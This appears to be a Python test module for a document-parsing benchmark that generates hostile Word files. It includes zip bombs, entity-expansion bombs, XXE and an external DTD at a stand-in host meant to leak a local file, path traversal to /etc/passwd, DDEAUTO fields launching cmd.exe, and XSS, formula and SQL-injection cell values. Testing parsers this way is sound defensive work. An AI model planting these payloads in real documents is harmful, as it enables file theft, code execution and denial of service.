"""Word files that are bombs, mazes, or point elsewhere."""

from __future__ import annotations

from bench.hostile.cases.case import DAMAGED, READ, TIMED_OUT, TOO_BIG, aimed, case
from bench.hostile.cases.zips import Member, raw_packed, raw_zip, stored, zipped
from bench.hostile.surroundings import Surroundings

_SENTENCE = "Four members of staff were dismissed in 2013."
_WORDS = ("Four", "dismissed")
_MAIN = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>'
    '<Override PartName="/word/document.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
    '<Override PartName="/word/styles.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.styles+xml"/></Types>'
)
_ROOT = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    f'<Relationship Id="r1" Type="{_RELATIONS}/officeDocument" Target="word/document.xml"/></Relationships>'
)


def paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def parts(body: str, relations: str = "", head: str = "") -> dict[str, bytes]:
    """The parts of a Word file; ``head`` stands before the root element, ``relations`` are the document's own."""
    document = f'{head}<w:document xmlns:w="{_MAIN}" xmlns:r="{_RELATIONS}"><w:body>{body}</w:body></w:document>'
    own = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
    return {
        "[Content_Types].xml": _TYPES.encode(),
        "_rels/.rels": _ROOT.encode(),
        "word/document.xml": document.encode("utf-8"),
        "word/_rels/document.xml.rels": own.encode(),
    }


def docx(body: str, relations: str = "", head: str = "", more: dict[str, bytes] | None = None) -> bytes:
    """A Word file with this body."""
    return zipped({**parts(body, relations, head), **(more or {})})


def table(rows: str) -> str:
    return f"<w:tbl><w:tblPr/><w:tblGrid/>{rows}</w:tbl>"


def row(*cells: str, look: str = "") -> str:
    return "<w:tr>" + "".join(f"<w:tc><w:tcPr>{look}</w:tcPr>{paragraph(cell)}</w:tc>" for cell in cells) + "</w:tr>"


@case("docx-bomb.docx", TOO_BIG)
def bomb() -> bytes:
    """A document part of a gigabyte in a megabyte."""
    members = [stored(name.encode(), content) for name, content in parts("").items() if name != "word/document.xml"]
    return raw_zip([*members, Member(b"word/document.xml", raw_packed(1 << 30), 1 << 30)])


@case("docx-bomb-that-lies.docx", DAMAGED)
def bomb_that_lies() -> bytes:
    """The same, said to be ten bytes long."""
    members = [stored(name.encode(), content) for name, content in parts("").items() if name != "word/document.xml"]
    return raw_zip([*members, Member(b"word/document.xml", raw_packed(1 << 30), 10)])


@case("docx-bomb-overlapping.docx", TOO_BIG)
def bomb_overlapping() -> bytes:
    """Pictures that are all one stretch of the file."""
    kernel = stored(b"word/media/a.png", b" " * (1 << 20))
    copies = [
        Member(b"word/media/%d.png" % number, kernel.body, kernel.size, kernel.crc, at=0) for number in range(500)
    ]
    rest = [stored(name.encode(), content) for name, content in parts(paragraph(_SENTENCE)).items()]
    return raw_zip([kernel, *copies, *rest])


def _laughs(levels: int) -> str:
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, levels))
    return f'<!DOCTYPE w:document [<!ENTITY l0 "lol">{entities}]>'


@case("docx-entities-exponential.docx", TOO_BIG)
def entities_exponential() -> bytes:
    """Entities made of entities: 10 to the power of 9 words."""
    return docx(paragraph("&l9;"), head=_laughs(10))


@case("docx-entities-quadratic.docx", TOO_BIG)
def entities_quadratic() -> bytes:
    """One long entity, named a hundred thousand times."""
    return docx(paragraph("&a;" * 100_000), head=f'<!DOCTYPE w:document [<!ENTITY a "{"a" * 100_000}">]>')


@aimed("docx-entity-from-outside.docx", DAMAGED)
def entity_from_outside(place: Surroundings) -> bytes:
    """An entity that is a file of this machine."""
    head = f'<!DOCTYPE w:document [<!ENTITY a SYSTEM "{place.secret_path.as_uri()}">]>'
    return docx(paragraph(f"{_SENTENCE} &a;"), head=head)


@aimed("docx-dtd-from-outside.docx", READ)
def dtd_from_outside(place: Surroundings) -> bytes:
    """A document type that is fetched from the network and hands a file on."""
    head = (
        f'<!DOCTYPE w:document [<!ENTITY % f SYSTEM "{place.secret_path.as_uri()}">'
        '<!ENTITY % d SYSTEM "http://203.0.113.1/evil.dtd">%d;]>'
    )
    return docx(paragraph(_SENTENCE), head=head)


@aimed("docx-parts-from-outside.docx", READ, words=_WORDS)
def parts_from_outside(place: Surroundings) -> bytes:
    """A template, a picture and a part that lie on the network or in other folders."""
    outside = "".join(
        f'<Relationship Id="x{at}" Type="{_RELATIONS}/{kind}" Target="{target}" TargetMode="External"/>'
        for at, (kind, target) in enumerate(
            (
                ("attachedTemplate", "http://203.0.113.1/evil.dotm"),
                ("image", place.secret_path.as_uri()),
                ("subDocument", "\\\\203.0.113.1\\share\\a.docx"),
            )
        )
    )
    inside = f'<Relationship Id="y" Type="{_RELATIONS}/footnotes" Target="../../../../../../../etc/passwd"/>'
    return docx(paragraph(_SENTENCE), relations=outside + inside)


@case("docx-wide-span.docx", READ, words=_WORDS)
def wide_span() -> bytes:
    """A cell that spans two thousand million columns."""
    cells = row("Dismissed", look='<w:gridSpan w:val="2147483647"/>') + row("4")
    return docx(paragraph(_SENTENCE) + table(cells))


@case("docx-negative-span.docx", READ, words=_WORDS)
def negative_span() -> bytes:
    """Cells that span minus one column, no number, and a number beyond all integers."""
    cells = "".join(row("a", look=f'<w:gridSpan w:val="{value}"/>') for value in ("-1", "x", "1" + "0" * 30, "1.5"))
    return docx(paragraph(_SENTENCE) + table(cells))


@case("docx-merged-for-ever.docx", READ, words=_WORDS)
def merged_for_ever() -> bytes:
    """Cells that continue a cell above that is not there."""
    return docx(paragraph(_SENTENCE) + table(row("a", "b", look="<w:vMerge/>") * 50))


@case("docx-cell-of-a-megabyte.docx", READ, words=_WORDS)
def cell_of_a_megabyte() -> bytes:
    """A million letters in one cell."""
    return docx(paragraph(_SENTENCE) + table(row("Outcome", "2013") + row("Dismissed " * 100_000, "4")))


@case("docx-tables-in-tables.docx", TOO_BIG)
def tables_in_tables() -> bytes:
    """Tables in tables, 2,000 levels deep."""
    start = "<w:tbl><w:tblPr/><w:tblGrid/><w:tr><w:tc><w:tcPr/>"
    end = paragraph("x") + "</w:tc></w:tr></w:tbl>"
    return docx(paragraph(_SENTENCE) + start * 2_000 + end * 2_000)


@case("docx-elements-deep.docx", TOO_BIG)
def elements_deep() -> bytes:
    """Elements in elements, 100,000 levels deep."""
    return docx(paragraph(_SENTENCE) + "<w:sdt>" * 100_000 + "</w:sdt>" * 100_000)


@case("docx-tables-a-thousand.docx", READ, words=_WORDS)
def tables_a_thousand() -> bytes:
    """A thousand small tables."""
    return docx(paragraph(_SENTENCE) + (table(row("Outcome", "2013") + row("Dismissed", "4")) + paragraph("")) * 1_000)


@case("docx-table-of-20000-rows.docx", READ, TIMED_OUT, words=_WORDS)
def table_long() -> bytes:
    """A table of 20,000 rows."""
    rows = "".join(row(f"Case {number} of {number * 7919 % 10_007}", "4") for number in range(20_000))
    return docx(paragraph(_SENTENCE) + table(row("Case", "2013") + rows))


@case("docx-more-cells-than-allowed.docx", TOO_BIG)
def too_many_cells() -> bytes:
    """More cells than max_cells allows."""
    rows = (row(*(f"{line * 7919 % 10_007}" for _ in range(60))) for line in range(9_000))
    return docx(table("".join(rows)))


@case("docx-names-that-lead-out.docx", READ, words=_WORDS)
def names_that_lead_out() -> bytes:
    """Parts named as paths to other folders."""
    evil = {"../../../../evil.txt": b"evil", "/tmp/evil.txt": b"evil", "word/../../evil.txt": b"evil"}  # noqa: S108
    return docx(paragraph(_SENTENCE), more=evil)


@case("docx-styles-in-a-circle.docx", READ, words=_WORDS)
def styles_in_a_circle() -> bytes:
    """Two styles that are each based on the other."""
    styles = (
        f'<w:styles xmlns:w="{_MAIN}"><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'
    )
    relation = f'<Relationship Id="s" Type="{_RELATIONS}/styles" Target="styles.xml"/>'
    body = f'<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>{_SENTENCE}</w:t></w:r></w:p>'
    return docx(body, relations=relation, more={"word/styles.xml": styles.encode()})


@case("docx-fields-that-run.docx", READ, words=_WORDS)
def fields_that_run() -> bytes:
    """Fields that start a program or fetch a file (DDEAUTO, INCLUDETEXT)."""
    codes = (
        'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"',
        "INCLUDETEXT /etc/passwd",
        "IMPORT http://203.0.113.1/",
    )
    fields = "".join(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{code.replace(chr(34), '&quot;')}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        for code in codes
    )
    return docx(paragraph(_SENTENCE) + fields)


@case("docx-scripts-and-formulas.docx", READ, words=("<script>alert(1)</script>", "=cmd|'/c calc'!A0"))
def scripts_and_formulas() -> bytes:
    """Cells that are scripts, formulas and SQL, as labels of a figure."""
    labels = (
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "=cmd|'/c calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(A1)",
        "'; DROP TABLE runs;--",
    )
    rows = row("Reason for dismissal", "2013") + "".join(row(label, "4") for label in labels)
    return docx(paragraph("Dismissals of staff for misconduct") + table(rows))


@case("docx-wrong-encoding.docx", DAMAGED)
def wrong_encoding() -> bytes:
    """A part that says UTF-8 and is Latin-1."""
    made = parts(paragraph("caf\xe9"), head='<?xml version="1.0" encoding="UTF-8"?>')
    made["word/document.xml"] = made["word/document.xml"].decode().encode("latin-1")
    return zipped(made)


@case("docx-utf-16.docx", READ, words=_WORDS)
def utf_16() -> bytes:
    """A part in UTF-16, which is allowed."""
    made = parts(paragraph(_SENTENCE), head='<?xml version="1.0" encoding="UTF-16"?>')
    made["word/document.xml"] = made["word/document.xml"].decode().encode("utf-16")
    return zipped(made)


@case("docx-cut-in-half.docx", DAMAGED)
def cut_in_half() -> bytes:
    """A download that broke off."""
    whole = docx(paragraph(_SENTENCE))
    return whole[: len(whole) // 2]


@case("docx-without-document.docx", DAMAGED)
def without_document() -> bytes:
    """A package whose main part is missing."""
    made = parts("")
    del made["word/document.xml"]
    return zipped(made)


@case("docx-part-twice.docx", DAMAGED)
def part_twice() -> bytes:
    """Two main parts of one name: which of them is shown depends on the program."""
    made = [stored(name.encode(), content) for name, content in parts(paragraph(_SENTENCE)).items()]
    return raw_zip(
        [*made, stored(b"word/document.xml", parts(paragraph("Ninety were dismissed."))["word/document.xml"])]
    )
